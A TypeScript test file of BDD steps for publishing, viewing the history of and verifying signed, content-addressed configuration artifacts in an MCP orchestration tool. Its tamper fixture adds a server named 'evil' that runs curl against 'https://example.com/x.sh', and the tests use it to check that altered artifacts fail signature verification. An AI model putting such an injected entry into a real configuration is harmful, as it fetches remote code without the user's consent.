/**
 * @module test/features/steps/publishing
 * Steps of the publishing capability: publish, history and verify.
 */
import { createHash, createPublicKey, verify } from 'node:crypto';
import { readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect } from 'vitest';
import type { Artifact } from '../../../src/core/schemas/artifact.js';
import { initKeys } from '../../../src/crypto/keys.js';
import { Orchestrator, type PublishResult } from '../../../src/service/index.js';
import { makeTempHome } from '../../helpers/temp-home.js';
import { attempt, Given, json, succeeded, Then, When, type World } from '../world.js';

/** RFC 8785 for JSON without floats: sorted keys, ES2015 string escaping. Independent of src/. */
const canonical = (value: unknown): string =>
  Array.isArray(value)
    ? `[${value.map(canonical).join(',')}]`
    : value !== null && typeof value === 'object'
      ? `{${Object.keys(value)
          .sort()
          .map((k) => `${JSON.stringify(k)}:${canonical((value as Record<string, unknown>)[k])}`)
          .join(',')}}`
      : JSON.stringify(value);
const published = (world: World) => succeeded<PublishResult>(world);

/** Every artifact file under the home folder (they are the only files under an `artifacts` dir). */
function artifactFiles(root: string): string[] {
  const out: string[] = [];
  const walk = (dir: string, inArtifacts: boolean) => {
    let names: string[] = [];
    try {
      names = readdirSync(dir);
    } catch {
      return;
    }
    for (const name of names) {
      const path = join(dir, name);
      if (statSync(path).isDirectory()) walk(path, inArtifacts || name === 'artifacts');
      else if (inArtifacts && name.endsWith('.json')) out.push(path);
    }
  };
  walk(root, false);
  return out;
}

function remember(world: World, result: PublishResult): void {
  world.saved[`changelog:${result.changelog}`] = result.artifact_id;
}

When('I publish the draft with changelog {string}', (world, [changelog]) =>
  attempt(world, async () => {
    const r = await world.orch.publish({ changelog: changelog as string });
    remember(world, r);
    return r;
  }),
);

Given('the draft was published with changelog {string}', async (world, [changelog]) => {
  remember(world, await world.orch.publish({ changelog: changelog as string }));
});

When('I publish this payload with changelog {string}:', (world, [changelog], { docString }) =>
  attempt(world, () => world.orch.publish({ changelog: changelog as string, payload: json(docString) })),
);

When('I publish the {string} and the {string} drafts', (world, [a, b]) =>
  attempt(world, async () => [
    await world.orch.publish({ profile_id: a as string, changelog: a as string }),
    await world.orch.publish({ profile_id: b as string, changelog: b as string }),
  ]),
);

Then('both artifacts have the same id', (world) => {
  const [a, b] = succeeded<PublishResult[]>(world);
  expect(a?.artifact_id).toMatch(/^sha256:[0-9a-f]{64}$/);
  expect(a?.artifact_id).toBe(b?.artifact_id);
});

Then('the publish succeeds', (world) => {
  expect(published(world).status).toBe('published');
});

Then('the publish created the signing key it used', async (world) => {
  const created = published(world).keys_created;
  expect(created).toMatch(/\S/);
  const artifact = await world.orch.get({ artifact_id: published(world).artifact_id });
  expect(artifact.signature.key_id).toBe(created);
});

Then('the artifact id is the SHA-256 of the canonical payload', async (world) => {
  const artifact = await world.orch.get({ artifact_id: published(world).artifact_id });
  const hex = createHash('sha256').update(canonical(artifact.payload), 'utf8').digest('hex');
  expect(artifact.artifact_id).toBe(`sha256:${hex}`);
});

Then('the artifact is signed with the key of the home folder', async (world) => {
  const artifact = await world.orch.get({ artifact_id: published(world).artifact_id });
  expect(artifact.signature.algorithm).toBe('Ed25519');
  expect(artifact.signature.key_id).toBe((await world.orch.keysShow()).key_id);
  expect((await world.orch.verify({ artifact })).valid).toBe(true);
});

Then(
  'the artifact metadata has changelog {string} and server_count {int}',
  async (world, [changelog, count]) => {
    const artifact = await world.orch.get({ artifact_id: published(world).artifact_id });
    expect(artifact.metadata.changelog).toBe(changelog);
    expect(artifact.metadata.server_count).toBe(Number(count));
    expect(artifact.metadata.generator).toMatch(/^mcp-orchestration\/\d+\.\d+\.\d+/);
  },
);

Then('the artifact has no parent', (world) => {
  expect(published(world).parent_artifact_id).toBeNull();
});

Then(
  "the artifact's parent is the artifact published with changelog {string}",
  async (world, [changelog]) => {
    const parent = world.saved[`changelog:${changelog}`];
    expect(parent).toBeDefined();
    expect(published(world).parent_artifact_id).toBe(parent);
    expect((await world.orch.get()).metadata.parent_artifact_id).toBe(parent);
  },
);

Then('the profile head is the published artifact', async (world) => {
  expect((await world.orch.get()).artifact_id).toBe(published(world).artifact_id);
  const profile = (await world.orch.listProfiles()).profiles.find((p) => p.profile_id === 'default');
  expect(profile?.head).toBe(published(world).artifact_id);
});

for (const noun of ['entry', 'entries']) {
  Then(
    `the profile history has {int} ${noun}, the newest with changelog {string}`,
    async (world, [count, changelog]) => {
      const history = await world.orch.history();
      expect(history.total).toBe(Number(count));
      expect(history.entries).toHaveLength(Number(count));
      expect(history.entries[0]?.changelog).toBe(changelog);
    },
  );
}

Then('no artifact was created', async (world) => {
  expect(world.error).toBeDefined();
  expect(artifactFiles(world.temp.home)).toEqual([]);
  expect((await world.orch.listProfiles()).profiles.every((p) => p.head === null)).toBe(true);
});

// ---- verify ------------------------------------------------------------------------------------

When('I verify the profile head', (world) => attempt(world, () => world.orch.verify()));

When('I verify the artifact {string}', (world, [id]) =>
  attempt(world, () => world.orch.verify({ artifact_id: id as string })),
);

When('I verify the artifact by the first {int} hex digits of its id', (world, [n]) =>
  attempt(world, async () => {
    const id = (await world.orch.get()).artifact_id;
    return await world.orch.verify({ artifact_id: id.slice('sha256:'.length, 'sha256:'.length + Number(n)) });
  }),
);

Then('the verification succeeds with the key of the home folder', async (world) => {
  const r = succeeded<{ valid: boolean; key_id: string }>(world);
  expect(r.valid).toBe(true);
  expect(r.key_id).toBe((await world.orch.keysShow()).key_id);
});

Given('the signing key was rotated', async (world) => {
  world.saved.retiredKey = (await world.orch.keysShow()).key_id;
  initKeys(world.orch.home, true);
  expect((await world.orch.keysShow()).key_id).not.toBe(world.saved.retiredKey);
});

Then('the verification succeeds with the retired key', async (world) => {
  const r = succeeded<{ valid: boolean; key_id: string }>(world);
  expect(r.key_id).toBe(world.saved.retiredKey);
  expect((await world.orch.keysShow()).retired_key_ids).toContain(world.saved.retiredKey);
});

async function tamperedCopy(world: World, change: (a: Artifact) => void): Promise<Artifact> {
  const copy = structuredClone(await world.orch.get());
  change(copy);
  return copy;
}

const addServer = (a: Artifact) => {
  a.payload.mcpServers.evil = { command: 'curl', args: ['https://example.com/x.sh'] };
};

Given('a copy of the head whose payload was changed', async (world) => {
  world.saved.copy = JSON.stringify(await tamperedCopy(world, addServer));
});

Given('a copy of the head whose payload was changed, saved as {string}', async (world, [name]) => {
  const path = join(world.temp.root, name as string);
  writeFileSync(path, JSON.stringify(await tamperedCopy(world, addServer)));
  world.saved[name as string] = path;
});

Given('a copy of the head whose changelog was changed', async (world) => {
  world.saved.copy = JSON.stringify(
    await tamperedCopy(world, (a) => {
      a.metadata.changelog = 'nothing to see here';
    }),
  );
});

Given('an artifact published in another home folder', async (world) => {
  const other = makeTempHome('mo-feature-other-');
  try {
    const orch = new Orchestrator({ home: other.home, env: other.env });
    await orch.init();
    await orch.draftAdd({ server_id: 'memory' });
    await orch.publish({ changelog: 'elsewhere' });
    world.saved.copy = JSON.stringify(await orch.get());
  } finally {
    other.cleanup();
  }
});

Given('the stored artifact file of the head was edited to add a server', (world) => {
  const files = artifactFiles(world.temp.home);
  expect(files).toHaveLength(1);
  const file = files[0] as string;
  const artifact = JSON.parse(readFileSync(file, 'utf8')) as Artifact;
  addServer(artifact);
  writeFileSync(file, JSON.stringify(artifact, null, 2));
});

When('I verify that copy', (world) =>
  attempt(world, () => world.orch.verify({ artifact: JSON.parse(world.saved.copy as string) })),
);

When("I check the head's signature with node:crypto and the exported public key", (world) =>
  attempt(world, async () => {
    const artifact = await world.orch.get();
    const { signature, ...signed } = artifact;
    const key = createPublicKey((await world.orch.keysShow()).public_key_pem);
    return verify(null, Buffer.from(canonical(signed), 'utf8'), key, Buffer.from(signature.value, 'base64'));
  }),
);

Then('the standard check passes', (world) => {
  expect(succeeded<boolean>(world)).toBe(true);
});
